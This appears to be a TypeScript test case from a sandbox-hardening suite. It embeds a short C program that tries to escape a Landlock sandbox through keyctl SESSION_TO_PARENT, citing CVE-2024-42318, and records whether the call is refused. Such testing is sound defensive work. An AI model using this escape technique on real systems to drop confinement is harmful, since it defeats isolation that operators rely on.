import { type Attack, c, reached } from '../attack.js'

export const attack: Attack = {
  id: 'ipc/keyring-to-parent',
  tries: "to put its session keyring in the place of its parent's, and its domain with it",
  source: 'CVE-2024-42318 (KEYCTL_SESSION_TO_PARENT drops the Landlock domain)',
  program: c`
int main(void) {
  if (syscall(SYS_keyctl, 1 /* JOIN_SESSION_KEYRING */, NULL, 0, 0, 0) < 0) refused("keyctl");
  reached_unless_refused("keyctl", syscall(SYS_keyctl, 18 /* SESSION_TO_PARENT */, 0, 0, 0, 0));
}`,
  succeeded: reached,
  control: 'plain',
}
